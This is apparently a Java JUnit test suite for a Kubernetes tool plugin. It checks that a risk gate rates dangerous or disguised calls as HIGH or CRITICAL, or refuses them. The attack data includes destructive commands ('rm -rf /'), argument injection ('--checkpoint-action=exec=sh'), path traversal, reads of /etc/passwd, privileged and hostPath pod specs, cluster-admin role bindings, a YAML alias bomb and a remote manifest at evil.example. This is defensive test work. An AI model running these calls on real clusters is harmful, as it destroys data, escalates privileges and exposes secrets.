package dev.fuse.tool.kubernetes;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fuse.spi.Effect;
import dev.fuse.spi.Risk;
import dev.fuse.spi.ToolFailure;
import dev.fuse.spi.Verb;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Dangerous and disguised changes, with what the gate gets to see of them: HIGH asks, CRITICAL asks
 * for the name to be typed and no rule allows it, refused is never asked about.
 */
class RedTeamTest {

  private static final String REFUSED = "refused";

  @TempDir static Path directory;
  private static Space space;

  /** A call, and the highest risk that it must have, or that it is refused. */
  record Attack(String expected, String tool, List<Object> arguments) {
    @Override
    public String toString() {
      return tool + " " + arguments + " -> " + expected;
    }
  }

  private static Attack attack(String expected, String tool, Object... arguments) {
    return new Attack(expected, tool, List.of(arguments));
  }

  @BeforeAll
  static void open() throws Exception {
    space = Space.create(directory);
    space.deployment("web", 1);
    space.service("web");
    space.apply(
        "{apiVersion: v1, kind: ConfigMap, metadata: {name: a, finalizers: [example.com/x]}}");
    space.apply(
        "{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: data}, spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}");
    space.run("k8s_create_secret", "name", "db", "key", "password", "value", "hunter22");
    space.run(
        "k8s_create",
        "kind",
        "role",
        "name",
        "reader",
        "verbs",
        List.of("get"),
        "resources",
        List.of("pods"));
    space.run("k8s_create", "kind", "serviceaccount", "name", "bot");
    space.apply(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: strong}\nspec:\n  selector: {matchLabels: {app: strong}}\n  template:\n    metadata: {labels: {app: strong}}\n    spec:\n      containers: [{name: main, image: a, securityContext: {privileged: true}}]\n");
    space.until(() -> space.ready("web") && space.ready("strong"));
    Files.writeString(directory.resolve("notes.txt"), "x");
    Files.createSymbolicLink(directory.resolve("innocent"), Path.of("/etc"));
  }

  @AfterAll
  static void close() throws Exception {
    if (space != null) {
      space.run("k8s_patch", "kind", "cm", "name", "a", "patch", "metadata: {finalizers: null}");
      space.close();
    }
  }

  static List<Attack> attacks() {
    return Stream.of(deletions(), patches(), manifests(), rights(), inside(), disguises())
        .flatMap(List::stream)
        .toList();
  }

  private static List<Attack> deletions() {
    return List.of(
        attack("CRITICAL", "k8s_delete", "kind", "ns", "name", space.name()),
        attack("CRITICAL", "k8s_delete", "kind", "node", "name", "worker-1"),
        attack("CRITICAL", "k8s_delete", "kind", "pvc", "name", "data"),
        attack("CRITICAL", "k8s_delete", "kind", "clusterrole", "name", "view"),
        attack("CRITICAL", "k8s_delete", "kind", "apiservices", "name", "v1.apps"),
        attack(
            "CRITICAL",
            "k8s_delete",
            "namespace",
            "kube-system",
            "kind",
            "cm",
            "name",
            "kube-root-ca.crt"),
        attack("HIGH", "k8s_delete", "kind", "deploy", "name", "web"),
        attack("HIGH", "k8s_delete", "kind", "deploy", "name", "web", "orphan", true),
        attack("HIGH", "k8s_delete", "kind", "secret", "name", "db"),
        attack(REFUSED, "k8s_delete", "kind", "pods", "name", "*"),
        attack(REFUSED, "k8s_delete", "kind", "pods", "name", "--all"),
        attack(REFUSED, "k8s_delete", "kind", "pods", "name", "all"),
        attack(REFUSED, "k8s_delete", "kind", "pods", "name", ""),
        attack(REFUSED, "k8s_delete", "kind", "pods", "name", "-l app=web"),
        attack(REFUSED, "k8s_delete", "kind", "pods", "name", "web?labelSelector=app"),
        attack(REFUSED, "k8s_delete", "kind", "pods", "name", "../../namespaces/default"),
        attack(REFUSED, "k8s_delete", "kind", "pods", "name", "web", "selector", "app=web"),
        attack(REFUSED, "k8s_delete", "kind", "pods,deployments", "name", "web"),
        attack(REFUSED, "k8s_delete", "kind", "deploy", "name", "web", "dry_run", "none"));
  }

  private static List<Attack> patches() {
    var web = List.<Object>of("kind", "deploy", "name", "web");
    return List.of(
        patch("HIGH", web, "spec: {replicas: 0}"),
        patch("HIGH", web, "{\"spec\":{\"template\":{\"spec\":{\"serviceAccountName\":\"bot\"}}}}"),
        patch("CRITICAL", web, "spec: {template: {spec: {hostNetwork: true}}}"),
        patch("CRITICAL", web, "spec: {template: {spec: {hostPID: yes}}}"),
        patch(
            "CRITICAL",
            web,
            "spec: {template: {spec: {volumes: [{name: h, hostPath: {path: /}}]}}}"),
        patch(
            "CRITICAL",
            web,
            "spec: {template: {spec: {containers: [{name: main, image: a, securityContext: {privileged: true}}]}}}"),
        patch(
            "CRITICAL",
            web,
            "spec: {template: {spec: {containers: [{name: main, image: a, securityContext: {capabilities: {add: [SYS_ADMIN]}}}]}}}"),
        patch("CRITICAL", List.of("kind", "cm", "name", "a"), "metadata: {finalizers: []}"),
        patch(
            "CRITICAL",
            List.of("kind", "role", "name", "reader"),
            "rules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]"),
        patch(
            "CRITICAL",
            List.of("kind", "role", "name", "reader"),
            "rules: [{apiGroups: [''], resources: [serviceaccounts], verbs: [impersonate]}]"),
        patch(REFUSED, web, "status: {readyReplicas: 3}"),
        patch(REFUSED, web, "metadata: {name: other}"),
        patch(REFUSED, web, "spec: {replicas: -1}"),
        patch(REFUSED, web, "{}"),
        patch(REFUSED, web, "- op: remove\n  path: /spec"),
        patch(REFUSED, web, "spec: {replicas: 0}\n---\nspec: {paused: true}"),
        patch(REFUSED, List.of("kind", "secret", "name", "db"), "stringData: {password: x}"),
        patch(REFUSED, List.of("kind", "secret", "name", "db"), "data: {password: eA==}"),
        patch(REFUSED, List.of("kind", "deploy", "name", "web/status"), "spec: {replicas: 0}"),
        patch(REFUSED, List.of("kind", "deployments/scale", "name", "web"), "spec: {replicas: 0}"));
  }

  private static Attack patch(String expected, List<Object> object, String patch) {
    var arguments = new ArrayList<>(object);
    arguments.addAll(List.of("patch", patch));
    return new Attack(expected, "k8s_patch", arguments);
  }

  private static List<Attack> manifests() {
    var harmless = "{apiVersion: v1, kind: ConfigMap, metadata: {name: harmless}}\n---\n";
    return List.of(
        apply("HIGH", harmless),
        apply(
            "CRITICAL",
            harmless + binding("ClusterRoleBinding", "cluster-admin", "ServiceAccount", "bot")),
        apply(
            "CRITICAL",
            harmless
                + "\n---\n# ok\n---\n{apiVersion: v1, kind: Namespace, metadata: {name: kube-public, labels: {a: b}}}"),
        apply(
            "CRITICAL",
            "{apiVersion: v1, kind: List, items: ["
                + binding("ClusterRoleBinding", "view", "User", "eve")
                + "]}"),
        apply("CRITICAL", pod("hostPath: {path: /var/run/docker.sock}")),
        apply(
            "CRITICAL",
            "{apiVersion: v1, kind: ConfigMap, metadata: {name: x, namespace: kube-system}}"),
        apply(
            "CRITICAL",
            "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata: {name: x}\nwebhooks: []\n"),
        apply("HIGH", pod("emptyDir: {}")),
        apply(
            REFUSED,
            "{apiVersion: v1, kind: Secret, metadata: {name: s}, stringData: {key: hunter22}}"),
        apply(REFUSED, "{apiVersion: v1, kind: ConfigMap, metadata: {generateName: x-}}"),
        apply(REFUSED, "a: &a [*a]"),
        apply(REFUSED, bomb()),
        apply(
            REFUSED,
            "{apiVersion: v1, kind: ConfigMap, metadata: {name: x}, data: {a: '1', a: '2'}}"),
        attack(REFUSED, "k8s_apply", "manifest", harmless, "dryRun", "None"),
        attack(REFUSED, "k8s_apply", "manifest", "https://evil.example/x.yaml"),
        attack(
            REFUSED,
            "k8s_apply",
            "namespace",
            "default",
            "manifest",
            "{apiVersion: v1, kind: ConfigMap, metadata: {name: x, namespace: kube-system}}"));
  }

  private static Attack apply(String expected, String manifest) {
    return attack(expected, "k8s_apply", "manifest", manifest);
  }

  private static String bomb() {
    var text = new StringBuilder("l0: &l0 [x, x, x, x, x, x, x, x, x]\n");
    for (int i = 1; i < 8; i++) {
      text.append(
          "l%d: &l%d [*l%d, *l%d, *l%d, *l%d, *l%d]%n"
              .formatted(i, i, i - 1, i - 1, i - 1, i - 1, i - 1));
    }
    return text.toString();
  }

  private static String pod(String volume) {
    return "{apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {containers: [{name: m, image: a}], volumes: [{name: v, "
        + volume
        + "}]}}";
  }

  private static String binding(String kind, String role, String subjectKind, String subject) {
    return "{apiVersion: rbac.authorization.k8s.io/v1, kind: "
        + kind
        + ", metadata: {name: fuse-test-b}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "
        + role
        + "}, subjects: [{kind: "
        + subjectKind
        + ", name: "
        + subject
        + (subjectKind.equals("ServiceAccount")
            ? ", namespace: default"
            : ", apiGroup: rbac.authorization.k8s.io")
        + "}]}";
  }

  private static List<Attack> rights() {
    return List.of(
        attack(
            "CRITICAL",
            "k8s_create",
            "kind",
            "rolebinding",
            "name",
            "b",
            "role",
            "ClusterRole/cluster-admin",
            "subject",
            "eve"),
        attack(
            "CRITICAL",
            "k8s_create",
            "kind",
            "rolebinding",
            "name",
            "b",
            "role",
            "reader",
            "subject",
            "group:system:authenticated"),
        attack(
            "CRITICAL",
            "k8s_create",
            "kind",
            "role",
            "name",
            "r",
            "verbs",
            List.of("*"),
            "resources",
            List.of("secrets")),
        attack(
            "CRITICAL",
            "k8s_create",
            "kind",
            "role",
            "name",
            "r",
            "verbs",
            List.of("escalate"),
            "resources",
            List.of("roles")),
        attack(
            "HIGH",
            "k8s_create",
            "kind",
            "rolebinding",
            "name",
            "b",
            "role",
            "reader",
            "subject",
            "serviceaccount:bot"),
        attack("HIGH", "k8s_create_secret", "name", "db", "key", "password", "value", "env:HOME"),
        attack(
            "CRITICAL",
            "k8s_create_secret",
            "namespace",
            "kube-system",
            "name",
            "x",
            "key",
            "k",
            "value",
            "env:HOME"),
        attack(REFUSED, "k8s_create_secret", "name", "db", "key", "../x", "value", "env:HOME"),
        attack(
            REFUSED,
            "k8s_set_env",
            "kind",
            "deploy",
            "name",
            "web",
            "env",
            Map.of("DB_PASSWORD", "hunter22")),
        attack(
            REFUSED,
            "k8s_set_env",
            "kind",
            "deploy",
            "name",
            "web",
            "env",
            Map.of("DB_URL", "postgres://u:hunter22@db/x")));
  }

  private static List<Attack> inside() {
    var argv = List.of("ls");
    return List.of(
        attack("HIGH", "k8s_exec", "name", "web", "argv", List.of("sh", "-c", "rm -rf /data")),
        attack("CRITICAL", "k8s_exec", "name", "strong", "argv", argv),
        attack(REFUSED, "k8s_exec", "name", "web", "argv", List.of("ls; rm -rf /")),
        attack(REFUSED, "k8s_exec", "name", "web", "argv", List.of()),
        attack(REFUSED, "k8s_exec", "name", "web", "container", "other", "argv", argv),
        attack(REFUSED, "k8s_exec", "name", "web", "argv", argv, "tty", true),
        attack(REFUSED, "k8s_exec", "name", "web/../strong", "argv", argv),
        attack("HIGH", "k8s_port_forward", "name", "web", "port", 80L),
        attack(REFUSED, "k8s_port_forward", "name", "web", "port", 80L, "address", "0.0.0.0"),
        attack(
            "HIGH",
            "k8s_copy",
            "name",
            "web",
            "direction",
            "to_pod",
            "pod_path",
            "/tmp/x",
            "path",
            "notes.txt"),
        attack(
            "READ_SECRET",
            "k8s_copy",
            "name",
            "web",
            "direction",
            "to_pod",
            "pod_path",
            "/tmp/x",
            "path",
            "/etc/passwd"),
        attack(
            "READ_SECRET",
            "k8s_copy",
            "name",
            "web",
            "direction",
            "to_pod",
            "pod_path",
            "/tmp/x",
            "path",
            "innocent/passwd"),
        attack(
            REFUSED,
            "k8s_copy",
            "name",
            "web",
            "direction",
            "from_pod",
            "pod_path",
            "/tmp/x",
            "path",
            "/etc/passwd"),
        attack(
            REFUSED,
            "k8s_copy",
            "name",
            "web",
            "direction",
            "from_pod",
            "pod_path",
            "/a/../../x",
            "path",
            "y"),
        attack(
            REFUSED,
            "k8s_copy",
            "name",
            "web",
            "direction",
            "from_pod",
            "pod_path",
            "--checkpoint-action=exec=sh",
            "path",
            "y"),
        attack(REFUSED, "k8s_debug", "name", "web", "image", "busybox", "privileged", true));
  }

  private static List<Attack> disguises() {
    return List.of(
        attack(
            REFUSED,
            "k8s_scale",
            "context",
            "prod",
            "kind",
            "deploy",
            "name",
            "web",
            "replicas",
            0L),
        attack(
            REFUSED,
            "k8s_scale",
            "context",
            "--context=prod",
            "kind",
            "deploy",
            "name",
            "web",
            "replicas",
            0L),
        attack(
            REFUSED,
            "k8s_scale",
            "namespace",
            "other/../kube-system",
            "kind",
            "deploy",
            "name",
            "web",
            "replicas",
            0L),
        attack(REFUSED, "k8s_scale", "kind", "cm", "name", "a", "replicas", 0L),
        attack(REFUSED, "k8s_set_image", "kind", "deploy", "name", "web", "image", "a:1 --force"),
        attack(REFUSED, "k8s_set_image", "kind", "deploy", "name", "web", "image", ""),
        attack(
            "CRITICAL",
            "k8s_label",
            "kind",
            "ns",
            "name",
            "kube-system",
            "labels",
            Map.of("a", "b")),
        attack(REFUSED, "k8s_drain", "name", "*"),
        attack(REFUSED, "k8s_drain", "name", "worker-1", "force", true),
        attack(REFUSED, "k8s_taint", "name", "worker-1", "key", "bad key", "effect", "NoExecute"),
        attack(
            "CRITICAL",
            "k8s_restore",
            "objects",
            List.of(Map.of("kind", "ns", "name", space.name()))));
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void the_gate_sees_what_a_change_does(Attack attack) {
    assertThat(seen(attack)).isEqualTo(attack.expected());
  }

  @Test
  void no_tool_takes_a_shell_string_or_deletes_by_selector() {
    assertThat(space.bench().plugin.tools())
        .flatExtracting(tool -> tool.spec().parameters().properties().keySet())
        .doesNotContain("command", "script", "args", "flags", "dry_run", "address");
    assertThat(space.bench().plugin.tools())
        .filteredOn(tool -> !tool.spec().reading())
        .flatExtracting(tool -> tool.spec().parameters().properties().keySet())
        .doesNotContain("selector", "field_selector", "all_namespaces", "all");
  }

  /** What the host checks before a tool is asked, and then what the tool says it would do. */
  private static String seen(Attack attack) {
    var spec = space.bench().spec(attack.tool());
    var known = spec.parameters().properties().keySet();
    for (int i = 0; i < attack.arguments().size(); i += 2) {
      if (!known.contains((String) attack.arguments().get(i))) {
        return REFUSED;
      }
    }
    boolean placed = attack.arguments().contains("namespace") || !known.contains("namespace");
    try {
      var arguments = attack.arguments().toArray();
      var action =
          placed || named(attack)
              ? space.bench().prepare(attack.tool(), arguments)
              : space.prepare(attack.tool(), arguments);
      assertThat(spec.ceiling().exceededBy(action.effects())).isEmpty();
      assertThat(action.effects()).anyMatch(effect -> !effect.verb().reads());
      if (action.effects().stream().anyMatch(effect -> effect.verb() == Verb.READ_SECRET)) {
        return "READ_SECRET";
      }
      return action.effects().stream().map(Effect::risk).reduce(Risk.NONE, Risk::or).name();
    } catch (ToolFailure failure) {
      assertThat(failure.result().problem()).isNotBlank().doesNotContain("Exception");
      return REFUSED;
    }
  }

  private static boolean named(Attack attack) {
    return attack.arguments().toString().contains("namespace: kube-system");
  }
}
